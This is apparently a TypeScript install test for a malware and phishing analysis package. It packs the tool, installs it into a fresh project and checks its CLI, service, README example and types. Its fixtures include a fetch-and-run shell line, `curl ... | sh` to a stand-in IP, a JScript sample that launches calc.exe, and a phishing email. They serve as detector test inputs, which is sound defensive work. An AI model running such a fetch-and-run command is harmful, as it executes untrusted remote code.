// The command line, the service and the engine as a stranger gets them: packed, installed into an empty project, and used
// there. What they depend on comes from npm's store of what the repository was installed from, or from the registry.
import assert from 'node:assert/strict'
import { execFileSync, spawn, spawnSync } from 'node:child_process'
import { once } from 'node:events'
import { existsSync, globSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { delimiter, dirname, join, resolve } from 'node:path'
import { after, before, describe, test } from 'node:test'
import { PHISH } from '../../server/test/service/mail.ts'
import { BOOTSTRAP_KEY, makeDataDir } from '../../server/test/service/service.ts'

const root = resolve(import.meta.dirname, '../../..')
const NODE_MAJOR = 24
const folderOfOurNode = dirname(process.execPath)

/** Of the machine, where that is older than ours. */
const oldNode = (process.env['PATH'] ?? '')
  .split(delimiter)
  .filter((folder) => !folder.includes('node_modules'))
  .map((folder) => join(folder, 'node'))
  .filter((path) => existsSync(path))
  .find((path) => Number(/^v(\d+)/.exec(execFileSync(path, ['--version'], { encoding: 'utf8' }))?.[1]) < NODE_MAJOR)

/** How npm reaches its registry from this machine: by which settings, through which proxy, and whom it trusts on the way. */
const HOW_NPM_CONNECTS =
  /^(?:NODE_EXTRA_CA_CERTS|SSL_CERT_(?:FILE|DIR)|(?:https?|no)_proxy|npm_config_(?:globalconfig|userconfig|cafile|registry|cache))$/i

describe('the packages, installed into an empty project', () => {
  const project = mkdtempSync(join(tmpdir(), 'assay-installed-'))
  const env = {
    ...Object.fromEntries(Object.entries(process.env).filter(([name]) => HOW_NPM_CONNECTS.test(name))),
    PATH: `${folderOfOurNode}${delimiter}${process.env['PATH'] ?? ''}`,
    HOME: process.env['HOME'] ?? '',
    NO_UPDATE_NOTIFIER: '1',
  }
  const run = (program: string, ...args: readonly string[]) =>
    spawnSync(program, args, { cwd: project, env, encoding: 'utf8', timeout: 600_000 })

  before(() => {
    const packed = spawnSync(process.execPath, [join(root, 'scripts/packages/pack.ts'), project, 'assay', 'engine'], {
      encoding: 'utf8',
    })
    assert.equal(packed.status, 0, packed.stderr)
    writeFileSync(join(project, 'package.json'), '{ "name": "stranger", "type": "module", "private": true }')
    const installed = run(
      'npm',
      'install',
      '--prefer-offline',
      '--no-audit',
      '--no-fund',
      ...['assay', 'assay-engine']
        .map((name) => globSync(`${name}-[0-9]*.tgz`, { cwd: project })[0] ?? name)
        .map((name) => `./${name}`),
    )
    assert.equal(installed.status, 0, installed.stderr)
    writeFileSync(join(project, 'x.eml'), PHISH)
    writeFileSync(join(project, 'message.eml'), PHISH)
    writeFileSync(join(project, 'suspicious.bin'), '#!/bin/sh\ncurl -s http://198.51.100.7/a | sh\n')
  })
  after(() => rmSync(project, { recursive: true, force: true }))

  test('hold nothing that only the repository can run', () => {
    for (const name of ['assay', '@assay/engine']) {
      const folder = join(project, 'node_modules', name)
      assert.deepEqual(
        globSync('{src,packages,apps}/**/*.ts', { cwd: folder }).filter((file) => !file.endsWith('.d.ts')),
        [],
      )
      assert.ok(existsSync(join(folder, 'LICENSE')) && existsSync(join(folder, 'NOTICE')))
      const manifest = readFileSync(join(folder, 'package.json'), 'utf8')
      assert.doesNotMatch(manifest, /"(?:file|link|workspace):|private/)
      assert.doesNotMatch(manifest, /"@assay\/(?!engine")/)
    }
    const question = `import('./node_modules/assay/packages/cli/src/bundle.js').then((all) => console.log(all.isBundleCurrent()))`
    assert.equal(run('node', '-e', question).stdout, 'true\n', 'a start runs what was joined')
  })

  test('`npx assay analyze mail` and `analyze file` judge', () => {
    const mail = run('npx', '--no', 'assay', 'analyze', 'mail', 'x.eml')
    assert.match(mail.stdout, /^(?:HIGHLY )?MALICIOUS /, mail.stderr)
    assert.equal(mail.status, 2)
    // It is run in an emulator, in a process of its own.
    writeFileSync(join(project, 'run.js'), 'new ActiveXObject("WScript.Shell").Run("calc.exe")')
    const file = run('npx', '--no', 'assay', 'analyze', 'file', '--json', 'run.js')
    const { pipeline_stages } = JSON.parse(file.stdout).data
    assert.deepEqual(
      pipeline_stages.map(({ name, status }: { name: string; status: string }) => [name, status]),
      [
        ['static', 'complete'],
        ['dynamic', 'complete'],
      ],
    )
  })

  test('an older Node is told which one is needed', {
    skip: oldNode === undefined ? 'no older Node here' : false,
  }, () => {
    assert.ok(oldNode)
    const { status, stdout, stderr } = spawnSync(oldNode, ['node_modules/.bin/assay', 'analyze', 'mail', 'x.eml'], {
      cwd: project,
      encoding: 'utf8',
    })
    assert.deepEqual([status, stdout], [1, ''])
    assert.match(stderr, /^assay: needs Node 24 and this is v\d+\.\S+; install Node 24 or newer and run this again\n$/)
  })

  test('the service starts from there, with its console, its walls and analyses behind them', async () => {
    using dataDir = makeDataDir()
    const child = spawn(process.execPath, ['node_modules/.bin/assay', 'serve'], {
      cwd: project,
      env: {
        PATH: env.PATH,
        PORT: '0',
        ASSAY_DATA_DIR: dataDir.path,
        ASSAY_DNS: 'off',
        ASSAY_MAIL_WORKERS: '1',
        ASSAY_BOOTSTRAP_KEY: BOOTSTRAP_KEY,
      },
      stdio: ['ignore', 'pipe', 'pipe'],
    })
    const ended = once(child, 'exit')
    try {
      const url = await new Promise<string>((found, failed) => {
        let output = ''
        const collect = (chunk: Buffer): void => {
          output += chunk.toString()
          const at = /listening on (http:\/\/[^\s"]+)/.exec(output)?.[1]
          if (at !== undefined) found(at)
        }
        child.stdout.on('data', collect)
        child.stderr.on('data', collect)
        void ended.then(() => failed(new Error(output)))
      })
      assert.match(await (await fetch(url)).text(), /\/console\/main-/)
      const headers = { authorization: `Bearer ${BOOTSTRAP_KEY}` }
      const form = new FormData()
      form.set('file', new Blob(['#!/bin/sh\necho hello\n']), 'hello.sh')
      const submitted = await fetch(`${url}/v1/file/deep`, { method: 'POST', headers, body: form })
      assert.equal(submitted.status, 202)
      const { data } = (await submitted.json()) as { data: { sha256: string } }
      const answer = await fetch(`${url}/v1/file/status/${data.sha256}?wait=30`, { headers })
      const { data: record } = (await answer.json()) as { data: { status: string; verdict: string } }
      assert.deepEqual([record.status, record.verdict], ['complete', 'clean'])
      const mail = await fetch(`${url}/v1/phishing/analyze`, {
        method: 'POST',
        headers: { ...headers, 'content-type': 'message/rfc822' },
        body: PHISH,
      })
      assert.equal(mail.status, 200)
    } finally {
      child.kill('SIGTERM')
      await ended
    }
  })

  test('the example of the engine’s README runs as it stands there, and its types hold in a strict project', () => {
    const readme = readFileSync(join(project, 'node_modules/@assay/engine/README.md'), 'utf8')
    const example = /```ts\n([\s\S]*?)```/.exec(readme)?.[1]
    assert.ok(example)
    writeFileSync(join(project, 'example.ts'), example)
    const ran = run('node', 'example.ts')
    assert.match(ran.stdout, /^(?:suspicious|malicious)\n(?:highly_)?malicious \d+\n$/, ran.stderr)
    writeFileSync(
      join(project, 'types.ts'),
      `import { analyzeFile, type EmailReport, type FileReport } from '@assay/engine'
import { detectorCatalogue } from '@assay/engine/catalogue'
const report: FileReport = await analyzeFile(new Uint8Array(), { fileName: null, now: new Date() })
export const label: 'malicious' | 'suspicious' | 'clean' | 'unknown' = report.verdict.label
export const level = (mail: EmailReport): 'safe' | 'suspicious' | 'malicious' | 'highly_malicious' => mail.verdict.level
export const ids: readonly string[] = detectorCatalogue().map(({ id }) => id)
// @ts-expect-error: what the time is has to be told
await analyzeFile(new Uint8Array(), { fileName: null })
`,
    )
    // Every declaration is looked into: nothing of them may lean on the repository.
    const options = ['--noEmit', '--strict', '--target', 'es2024', '--module', 'nodenext', '--types', 'node']
    const { status, stdout } = run(join(root, 'node_modules/.bin/tsc'), ...options, 'types.ts', 'example.ts')
    assert.equal(status, 0, stdout)
  })
})
